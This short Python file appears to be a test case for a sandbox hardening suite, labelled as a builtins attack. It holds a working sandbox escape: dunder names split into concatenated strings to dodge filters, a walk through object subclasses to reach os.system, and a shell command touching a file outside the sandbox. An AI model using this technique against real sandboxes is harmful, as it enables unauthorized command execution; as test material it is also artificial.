# category: builtins
# attack: getattr with a dunder name built at run time
# profile: basic
name = "__cla" + "ss__"
base = getattr(getattr((), name), "__ba" + "se__")
for c in getattr(base, "__subcla" + "sses__")():
    if c.__name__ == "_wrap_close":
        getattr(c.__init__, "__glo" + "bals__")["system"]("touch @OUTSIDE@")
